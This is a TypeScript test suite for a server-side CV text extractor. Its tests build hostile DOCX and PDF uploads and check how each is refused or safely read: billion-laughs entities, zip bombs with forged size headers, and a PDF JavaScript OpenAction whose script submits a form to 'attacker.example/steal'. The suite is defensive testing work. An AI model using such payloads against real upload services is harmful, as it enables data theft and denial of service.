import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { zipSync, strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { CV_LIMITS } from '../../../src/lib/cv-import/cv-limits';
import { extractCvText } from '../../../src/server/cv-import/cv-text';
import { DOCX } from '../../../src/lib/uploads/sniff-content-type';
import { zeroBombDocx } from '../../support/upload-fixtures';

// Reading uploaded CVs, hostile ones above all: every refusal here is a file someone could
// send on purpose. The DOCX and PDF files are built in the tests.

const SENTENCE = 'Jane Example, backend developer in Lyon, seven years of Node.js and PostgreSQL. ';
const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

const documentXml = (paragraphs: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraphs
    .map((text) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`)
    .join('')}</w:body></w:document>`;

function docx(parts: Record<string, string | Uint8Array>): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries({ '[Content_Types].xml': CONTENT_TYPES, ...parts }).map(([name, data]) => [name, typeof data === 'string' ? strToU8(data) : data])));
}

/** Rewrites the uncompressed size that the central directory declares for `name`. */
function declareSize(zip: Uint8Array, name: string, size: number): Uint8Array {
  const bytes = zip.slice();
  const view = new DataView(bytes.buffer);
  let end = bytes.length - 22;
  while (view.getUint32(end, true) !== 0x06054b50) end -= 1;
  let at = view.getUint32(end + 16, true);
  for (let index = 0; index < view.getUint16(end + 10, true); index += 1) {
    const nameLength = view.getUint16(at + 28, true);
    if (new TextDecoder().decode(bytes.subarray(at + 46, at + 46 + nameLength)) === name) view.setUint32(at + 24, size, true);
    at += 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return bytes;
}

async function pdf(pages: number, draw: (page: ReturnType<PDFDocument['addPage']>, font: Awaited<ReturnType<PDFDocument['embedFont']>>) => void, size: [number, number] = [595, 842]) {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let index = 0; index < pages; index += 1) draw(doc.addPage(size), font);
  return doc;
}

const oneSentence = (page: ReturnType<PDFDocument['addPage']>, font: Awaited<ReturnType<PDFDocument['embedFont']>>) =>
  page.drawText(SENTENCE, { x: 40, y: 700, size: 10, font });

describe('extractCvText: DOCX', () => {
  it('reads the paragraphs of word/document.xml, a list paragraph as a bullet and a tab as a tab', async () => {
    const xml = documentXml([SENTENCE]).replace(
      '</w:body>',
      '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/></w:numPr><w:tabs><w:tab w:val="right" w:pos="9000"/></w:tabs></w:pPr><w:r><w:t>Developer</w:t></w:r><w:r><w:tab/><w:t>2019 &amp; now</w:t></w:r></w:p></w:body>',
    );
    const result = await extractCvText(docx({ 'word/document.xml': xml }), DOCX);
    expect(result).toEqual({ ok: true, format: 'docx', truncated: false, text: `${SENTENCE.trim()}\n• Developer\t2019 & now` });
  });

  it('expands no entity but XML’s own: a DOCTYPE with entities (billion laughs) stays text', async () => {
    const laughs = `<!DOCTYPE w:document [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>`;
    const xml = documentXml([SENTENCE, '&lol2;&lol2;']).replace('?>', `?>${laughs}`);
    const result = await extractCvText(docx({ 'word/document.xml': xml }), DOCX);
    expect(result.ok && result.text).toContain('&lol2;&lol2;');
    expect(result.ok && result.text).not.toContain('lollol');
  });

  it('a DOCX whose declared uncompressed size exceeds the limit is refused before inflating', async () => {
    const bomb = await zeroBombDocx(110);
    expect(bomb.length).toBeLessThan(CV_LIMITS.maxFileBytes);
    const started = performance.now();
    expect(await extractCvText(bomb, DOCX)).toEqual({ ok: false, reason: 'zipBomb' });
    // Inflating 110 MB would take seconds and the worker's heap; the refusal reads only the directory.
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it('a part declaring a compression ratio past the limit is refused, even under the size limit', async () => {
    const bomb = await zeroBombDocx(5);
    expect(await extractCvText(bomb, DOCX)).toEqual({ ok: false, reason: 'zipBomb' });
  });

  it('a part that inflates past the size its header declares (a lying header) is stopped while inflating', async () => {
    const xml = documentXml(Array.from({ length: 2_000 }, () => SENTENCE));
    const liar = declareSize(docx({ 'word/document.xml': xml }), 'word/document.xml', 10_000);
    expect(await extractCvText(liar, DOCX)).toEqual({ ok: false, reason: 'zipBomb' });
  });

  it('a ZIP without word/document.xml, or an archive claiming to be a DOCX, is refused', async () => {
    expect(await extractCvText(docx({ 'word/other.xml': documentXml([SENTENCE]) }), DOCX)).toEqual({ ok: false, reason: 'wrongType' });
    expect(await extractCvText(zipSync({ 'notes.txt': strToU8(SENTENCE) }), DOCX)).toEqual({ ok: false, reason: 'wrongType' });
  });

  it('a damaged DOCX is unreadable', async () => {
    const whole = docx({ 'word/document.xml': documentXml([SENTENCE]) });
    const damaged = whole.slice();
    damaged.fill(0x41, 40, whole.length - 200);
    expect(await extractCvText(damaged, DOCX)).toEqual({ ok: false, reason: 'unreadable' });
  });

  it('a password-protected Word file (an OLE file holding an EncryptedPackage) is encrypted', async () => {
    const ole = new Uint8Array(4096);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    ole.set([...'EncryptedPackage'].flatMap((character) => [character.charCodeAt(0), 0]), 1024);
    expect(await extractCvText(ole, DOCX)).toEqual({ ok: false, reason: 'encrypted' });
  });
});

describe('extractCvText: PDF', () => {
  it('reads the text of a PDF, line by line', async () => {
    const doc = await pdf(1, (page, font) => {
      page.drawText('Jane Example', { x: 40, y: 780, size: 18, font });
      page.drawText(SENTENCE, { x: 40, y: 750, size: 10, font });
    });
    expect(await extractCvText(await doc.save(), 'application/pdf')).toEqual({ ok: true, format: 'pdf', truncated: false, text: `Jane Example\n${SENTENCE.trim()}` });
  });

  it('a PDF with a JavaScript OpenAction is read as text only: the script is never run nor returned', async () => {
    const doc = await pdf(1, oneSentence);
    const script = 'app.alert("owned"); this.submitForm("https://attacker.example/steal");';
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
    const result = await extractCvText(await doc.save(), 'application/pdf');
    expect(result).toEqual({ ok: true, format: 'pdf', truncated: false, text: SENTENCE.trim() });
  });

  it(`a PDF of more than ${CV_LIMITS.maxPdfPages} pages is refused (tooManyPages), however short its pages`, async () => {
    const doc = await pdf(300, oneSentence);
    expect(await extractCvText(await doc.save(), 'application/pdf')).toEqual({ ok: false, reason: 'tooManyPages' });
    const atTheLimit = await pdf(CV_LIMITS.maxPdfPages, oneSentence);
    expect((await extractCvText(await atTheLimit.save(), 'application/pdf')).ok).toBe(true);
  });

  it('a huge page full of text is cut at the character limit', async () => {
    const doc = await pdf(
      1,
      (page, font) => {
        for (let line = 0; line < 1_500; line += 1) page.drawText(SENTENCE.repeat(2), { x: 10, y: 14_000 - line * 9, size: 8, font });
      },
      [14_400, 14_400],
    );
    const result = await extractCvText(await doc.save(), 'application/pdf');
    expect(result.ok && result.truncated).toBe(true);
    expect(result.ok && result.text.length).toBeLessThanOrEqual(CV_LIMITS.maxTextChars);
  });

  it('a picture or a DOCX renamed .pdf is refused by its bytes (wrongType)', async () => {
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...new Array(200).fill(0)]);
    expect(await extractCvText(png, 'application/pdf')).toEqual({ ok: false, reason: 'wrongType' });
    expect(await extractCvText(docx({ 'word/document.xml': documentXml([SENTENCE]) }), 'application/pdf')).toEqual({ ok: false, reason: 'wrongType' });
  });

  it('a password-protected PDF is encrypted', async () => {
    const doc = await pdf(1, oneSentence);
    doc.encrypt({ userPassword: 'secret', ownerPassword: 'owner' });
    expect(await extractCvText(await doc.save(), 'application/pdf')).toEqual({ ok: false, reason: 'encrypted' });
  });

  it('a corrupt PDF is unreadable', async () => {
    const junk = strToU8(`%PDF-1.7\n${'garbage '.repeat(500)}\n%%EOF`);
    expect(await extractCvText(junk, 'application/pdf')).toEqual({ ok: false, reason: 'unreadable' });
  });

  it('a PDF without a text layer (a scan) is empty', async () => {
    const doc = await pdf(1, (page) => page.drawRectangle({ x: 40, y: 40, width: 300, height: 400 }));
    expect(await extractCvText(await doc.save(), 'application/pdf')).toEqual({ ok: false, reason: 'empty' });
  });
});

describe('extractCvText: limits of the reader itself', () => {
  it('a file over the size limit is refused before it is parsed', async () => {
    const large = new Uint8Array(CV_LIMITS.maxFileBytes + 1);
    large.set(strToU8('%PDF-1.7'));
    expect(await extractCvText(large, 'application/pdf')).toEqual({ ok: false, reason: 'tooLarge' });
  });

  it('a reader that outlives its deadline is ended and answers timeout', async () => {
    const doc = await pdf(1, oneSentence);
    expect(await extractCvText(await doc.save(), 'application/pdf', { ...CV_LIMITS, timeoutMs: 1 })).toEqual({ ok: false, reason: 'timeout' });
  });
});
